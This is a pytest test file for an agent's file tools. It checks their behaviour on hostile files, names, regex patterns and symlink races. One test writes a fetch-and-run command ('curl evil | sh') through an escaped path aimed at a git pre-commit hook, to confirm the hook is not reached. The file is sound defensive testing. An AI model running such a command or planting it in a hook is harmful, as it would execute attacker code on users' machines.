"""The file tools on hostile files, trees, names and patterns: each ends in bounded time
and memory, never blocks, never writes into a device, shows every name on one line and
is not redirected by a directory swapped for a symlink after the path was checked."""

from __future__ import annotations

import contextlib
import os
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

# The workspace, the outside directory and `call` are test_tools_files' own.
from test_tools_files import SECRET, call, context, outside, workspace

from tiny_agent_nb.tools import ToolContext, ToolOutput, _files, _paths, _writing, truncate
from tiny_agent_nb.tools._files import Grep, ListFiles, ReadFile

__all__ = ["context", "outside", "workspace"]  # fixtures, used by name


def within(seconds: float, action: Callable[[], ToolOutput]) -> ToolOutput:
    """`action()`'s result, failing the test (instead of hanging the suite) if it has
    not returned after `seconds`."""
    result: list[ToolOutput] = []
    worker = threading.Thread(target=lambda: result.append(action()), daemon=True)
    worker.start()
    worker.join(seconds)
    assert result, f"the tool call was still running after {seconds} s"
    return result[0]


# ---------------------------------------------------------------- bounded memory and time

_PEAK_OF_ONE_LINE_READ = """
import sys
from pathlib import Path
from tiny_agent_nb.tools import ToolContext, builtin_registry

# VmHWM, not ru_maxrss: the latter keeps the peak of the parent this process was
# forked from before its exec (pytest's), VmHWM is this program's own.
def kib(field):
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith(field))

tool = builtin_registry().get("read_file")
before = kib("VmRSS:")
context = ToolContext(workspace=Path(sys.argv[1]))
out = tool.run({"path": "huge.txt", "offset": 1, "limit": 1}, context)
assert not out.is_error, out.content
print(kib("VmHWM:") - before)
print(out.content[:40])
"""


def test_read_file_of_one_line_of_a_huge_file_holds_a_bounded_amount(workspace: Path) -> None:
    """The file is 48 MiB of one line: the tool reads it, and holds the output limit."""
    size = 48 << 20
    with (workspace / "huge.txt").open("wb") as huge:
        for _ in range(size >> 20):
            huge.write(b"a" * (1 << 20))
    # A fresh process, so that the peak RSS is this call's and nobody else's.
    done = subprocess.run(
        [sys.executable, "-c", _PEAK_OF_ONE_LINE_READ, str(workspace)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    grown_kib, shown = done.stdout.splitlines()
    assert shown.startswith("[huge.txt: 1 lines] (cut to fit;")
    assert int(grown_kib) < (size >> 10) // 4, f"peak RSS grew by {grown_kib} KiB"


def test_read_file_pages_a_file_larger_than_a_chunk(workspace: Path) -> None:
    # Lines that straddle the 64 KiB chunks: offset, limit and the count still agree
    # with splitting the whole text, for a last line with and without its newline.
    lines = [f"{i:07d}" + "x" * (i % 300) for i in range(20_000)]  # 3 MiB
    for text in ("\n".join(lines) + "\n", "\n".join(lines)):
        (workspace / "big.txt").write_text(text)
        tool = ReadFile()
        context = ToolContext(workspace=workspace, output_limit=10**7)
        out = tool.run({"path": "big.txt", "offset": 9_000, "limit": 5_000}, context)
        assert out.content == (
            "[big.txt: lines 9000-13999 of 20000]\n" + "\n".join(lines[8_999:13_999])
        )
        tail = tool.run({"path": "big.txt", "offset": 19_999}, context)
        assert tail.content == "[big.txt: lines 19999-20000 of 20000]\n" + "\n".join(lines[-2:])


def test_grep_with_a_catastrophic_pattern_stops_at_its_time_limit(
    workspace: Path, context: ToolContext
) -> None:
    # Python's re backtracks: (a+)+$ against a's then b would run for longer than the
    # universe has left, holding the GIL; only a process can be stopped from outside.
    (workspace / "line.txt").write_text("a" * 64 + "b\n")
    out = within(30, lambda: Grep(time_limit=1.0).run({"pattern": "(a+)+$"}, context))
    assert out.is_error and out.timed_out
    assert out.content.startswith("grep stopped at its time limit of 1 s; nothing was changed")
    assert "simplify the pattern" in out.content


def test_grep_of_a_huge_line_searches_its_first_mebibyte(
    workspace: Path, context: ToolContext
) -> None:
    (workspace / "minified.js").write_bytes(b"x" * (8 << 20) + b"late\nearly needle\n")
    out = call(context, "grep", pattern="needle|late")
    assert out.content == "minified.js:2: early needle"


@pytest.mark.parametrize(
    ("tool", "arguments", "advice"),
    [
        (ListFiles, {"recursive": True, "pattern": "*.none"}, "List a smaller part"),
        (ReadFile, {"path": "many/f0"}, "look at part of it with bash"),
        (Grep, {"pattern": "never"}, "Narrow the search"),
    ],
)
def test_a_reading_tool_past_its_time_limit_says_it_timed_out(
    workspace: Path, context: ToolContext, tool: Any, arguments: dict[str, Any], advice: str
) -> None:
    (workspace / "many").mkdir()
    for i in range(50):
        (workspace / "many" / f"f{i}").write_text("text\n")
    out = tool(time_limit=0.0).run(arguments, context)
    assert out.is_error and out.timed_out
    assert f"{tool.name} stopped at its time limit of 0 s" in out.content
    assert advice in out.content
    assert not tool().run(arguments, context).timed_out  # with its default limit it finishes


# ---------------------------------------------------------------- pipes and devices


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("write_file", {"content": "x"}),
        ("edit_file", {"old_string": "a", "new_string": "b"}),
        ("read_file", {}),
        ("grep", {"pattern": "a"}),
    ],
)
def test_file_tools_refuse_a_named_pipe_without_blocking(
    workspace: Path, context: ToolContext, name: str, arguments: dict[str, Any]
) -> None:
    pipe = workspace / "pipe"
    os.mkfifo(pipe)
    try:
        out = within(10, lambda: call(context, name, path="pipe", **arguments))
    finally:
        # Had the tool blocked in open(), this lets it through so the thread ends.
        for flags in (os.O_RDONLY, os.O_WRONLY):
            with contextlib.suppress(OSError):
                os.close(os.open(pipe, flags | os.O_NONBLOCK))
    assert out.is_error
    assert out.content.startswith("pipe: not a regular file (a pipe, socket or device); refused")
    assert stat.S_ISFIFO(pipe.lstat().st_mode)


@pytest.fixture
def device(workspace: Path) -> Iterator[Path]:
    """A character device node inside the workspace (the same device as /dev/null)."""
    node = workspace / "dev-null"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs CAP_MKNOD")
    yield node


@pytest.mark.parametrize(
    ("name", "arguments"),
    [("write_file", {"content": "x"}), ("edit_file", {"old_string": "a", "new_string": "b"})],
)
def test_write_and_edit_refuse_a_character_device(
    device: Path, context: ToolContext, name: str, arguments: dict[str, Any]
) -> None:
    out = call(context, name, path=device.name, **arguments)
    assert out.is_error
    assert "dev-null: not a regular file (a pipe, socket or device); refused" in out.content
    assert "neither read nor written" in out.content


# ---------------------------------------------------------------- deep trees, odd names


@pytest.fixture
def deep_tree(workspace: Path) -> Iterator[str]:
    """`d/d/.../d/bottom.txt`, deeper than Python's recursion limit and longer than
    PATH_MAX (4096); removed afterwards (pytest's own clean-up of old temporary
    directories recurses, and would fail)."""
    depth = max(sys.getrecursionlimit(), 4096 // 2) + 200
    fd = os.open(workspace, os.O_RDONLY)
    for _ in range(depth):  # one component at a time: the whole path is never spelt out
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    with open(os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
        f.write("needle\n")
    os.close(fd)
    yield "d/" * depth + "bottom.txt"
    # Flattened from the top: each level moves up beside the workspace's, then goes.
    level = workspace / "d"
    while (level / "d").is_dir():
        lifted = workspace / "lifted"
        (level / "d").rename(lifted)
        level.rmdir()
        level = lifted.rename(workspace / "d")
    (level / "bottom.txt").unlink()
    level.rmdir()


def test_walks_of_a_tree_deeper_than_the_recursion_limit(
    deep_tree: str, context: ToolContext
) -> None:
    # The walks, not their time limit (tested above), are what this checks: on a loaded
    # machine 2,248 levels took grep past its default 10 s.
    list_files, grep = ListFiles(time_limit=300), Grep(time_limit=300)
    listing = list_files.run(
        list_files.effective_arguments({"recursive": True, "pattern": "*.txt"}), context
    )
    assert listing == ToolOutput(deep_tree)
    found = grep.run(grep.effective_arguments({"pattern": "needle"}), context)
    assert found == ToolOutput(f"{deep_tree}:1: needle")


def test_read_file_says_which_binary_file_it_refused(workspace: Path, context: ToolContext) -> None:
    (workspace / "blob.bin").write_bytes(b"\x00\x01" * 10)
    out = call(context, "read_file", path="blob.bin")
    assert out.is_error
    assert "{shown}" not in out.content
    assert out.content.endswith("(inspect it with bash, e.g. `xxd blob.bin | head`)")


def test_a_name_with_a_newline_is_one_escaped_entry(workspace: Path, context: ToolContext) -> None:
    (workspace / "two\nlines.txt").write_text("needle\n")
    (workspace / "back\\slash").write_text("")
    assert call(context, "list_files").content.splitlines() == [
        "back\\\\slash",
        "two\\nlines.txt",
    ]
    assert call(context, "grep", pattern="needle").content == "two\\nlines.txt:1: needle"
    # Given back as shown, the name reaches the file.
    read = call(context, "read_file", path="two\\nlines.txt")
    assert read.content == "[two\\nlines.txt: 1 lines]\nneedle"
    assert not call(context, "read_file", path="back\\\\slash").is_error


def test_names_that_are_not_utf8_are_told_apart_and_usable(
    workspace: Path, context: ToolContext
) -> None:
    # A Path holds an undecodable byte as the surrogate os.fsdecode gives it.
    for byte in (b"\xff", b"\xfe"):
        (workspace / os.fsdecode(b"caf" + byte)).write_bytes(b"from " + byte.hex().encode() + b"\n")
    assert call(context, "list_files").content.splitlines() == ["caf\\xfe", "caf\\xff"]
    assert call(context, "read_file", path="caf\\xff").content == "[caf\\xff: 1 lines]\nfrom ff"
    write = call(context, "write_file", path="caf\\xfe", content="rewritten\n")
    assert write.content == "overwrote caf\\xfe: wrote 10 bytes"
    assert (workspace / os.fsdecode(b"caf\xfe")).read_text() == "rewritten\n"
    # A character that is not printable (a right-to-left override) is escaped too.
    (workspace / "evil\u202etxt.exe").write_text("")
    assert "evil\\u202etxt.exe" in call(context, "list_files").content


def test_an_escape_of_a_printable_character_is_not_read_as_one(
    workspace: Path, context: ToolContext
) -> None:
    """The user approves the path as written: `notes\\x2f..\\x2f\\x2egit` must not become
    `.git`. Listings never escape a printable character, so such a sequence is a name
    with backslashes in it, written where the user saw it."""
    (workspace / ".git" / "hooks").mkdir(parents=True)
    disguised = "notes\\x2f..\\x2f\\x2egit\\x2fhooks\\x2fpre-commit"
    result = call(context, "write_file", path=disguised, content="curl evil | sh\n")
    assert not result.is_error, result.content
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (workspace / disguised).read_text() == "curl evil | sh\n"
    assert call(context, "read_file", path="x\\u002ey").is_error  # no file "x.y" is read
    (workspace / "x.y").write_text("other\n")
    assert "other" not in call(context, "read_file", path="x\\u002ey").content


# ---------------------------------------------------------------- a symlink swapped in


def _swap_after_the_check(
    monkeypatch: pytest.MonkeyPatch, module: Any, directory: Path, outside: Path
) -> None:
    """After the tool has checked its path, replace `directory` with a symlink leading
    outside: what another process (or the agent's own bash) could do in between."""
    checked = module.file_target

    def check_then_swap(*args: Any, **kwargs: Any) -> Any:
        answer = checked(*args, **kwargs)
        directory.rename(directory.with_name("moved"))
        directory.symlink_to(outside, target_is_directory=True)
        return answer

    monkeypatch.setattr(module, "file_target", check_then_swap)


@pytest.mark.parametrize(
    ("name", "module", "arguments"),
    [
        ("write_file", _writing, {"content": "pwned"}),
        ("edit_file", _writing, {"old_string": "secret", "new_string": "pwned"}),
        ("read_file", _files, {}),
    ],
)
def test_a_directory_swapped_for_a_symlink_after_the_check_is_not_followed(
    workspace: Path,
    outside: Path,
    context: ToolContext,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    module: Any,
    arguments: dict[str, Any],
) -> None:
    (workspace / "sub").mkdir()
    (workspace / "sub" / "secret.txt").write_text("secret inside\n")
    _swap_after_the_check(monkeypatch, module, workspace / "sub", outside)
    out = call(context, name, path="sub/secret.txt", **arguments)
    assert out.is_error
    assert out.content.startswith("sub/secret.txt: refused, a directory or file on its path")
    assert SECRET.strip() not in out.content
    assert (outside / "secret.txt").read_text() == SECRET
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]


@pytest.mark.parametrize("name", ["list_files", "grep"])
@pytest.mark.parametrize("swapped", ["the directory", "its parent"])
def test_a_directory_swapped_for_a_symlink_during_a_walk_is_not_entered(
    workspace: Path,
    outside: Path,
    context: ToolContext,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    swapped: str,
) -> None:
    # Listed as directories, then swapped before the walk enters them: "sub" itself, or
    # "sub" while "sub/deep" waits to be entered (outside has a "deep" of its own).
    (workspace / "sub" / "deep").mkdir(parents=True)
    (outside / "deep").mkdir()
    (outside / "deep" / "secret.txt").write_text(SECRET)
    listed = _paths._describe
    trigger = "sub" if swapped == "the directory" else "deep"

    def list_then_swap(entry: os.DirEntry[str]) -> Any:
        answer = listed(entry)
        if entry.name == trigger:
            sub = workspace / "sub"
            sub.rename(workspace / "moved")
            sub.symlink_to(outside, target_is_directory=True)
        return answer

    monkeypatch.setattr(_paths, "_describe", list_then_swap)
    arguments = {"recursive": True} if name == "list_files" else {"pattern": "secret"}
    out = call(context, name, **arguments)
    assert "secret.txt" not in out.content
    assert SECRET.strip() not in out.content


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(alphabet="ab\n\r\u00e9", max_size=60),
    offset=st.integers(min_value=1, max_value=12),
    limit=st.one_of(st.none(), st.integers(min_value=1, max_value=12)),
    chunk=st.integers(min_value=1, max_value=9),
    output_limit=st.integers(min_value=0, max_value=40),
)
def test_read_file_in_chunks_equals_splitting_the_whole_text(
    text: str, offset: int, limit: int | None, chunk: int, output_limit: int
) -> None:
    """Whatever the chunk boundaries (here a few bytes, inside characters and between
    "\\r" and "\\n"), the window and the count are those of the whole text."""
    lines = text.split("\n")
    if lines[-1] == "":
        lines.pop()
    with tempfile.TemporaryDirectory() as directory, pytest.MonkeyPatch.context() as patch:
        patch.setattr(_files, "_CHUNK", chunk)
        workspace = Path(os.path.realpath(directory))
        (workspace / "f").write_bytes(text.encode("utf-8"))
        context = ToolContext(workspace=workspace, output_limit=output_limit)
        out = ReadFile().run({"path": "f", "offset": offset, "limit": limit}, context)
    if not lines:
        assert out.content == "[f: empty file, 0 lines]"
    elif offset > len(lines):
        assert out.content == f"f: offset {offset} is past the end ({len(lines)} lines)"
    else:
        body = "\n".join(lines[offset - 1 : None if limit is None else offset - 1 + limit])
        assert out.content.split("\n", 1)[1] == truncate(body, output_limit)
        assert f" of {len(lines)}]" in out.content or f": {len(lines)} lines]" in out.content
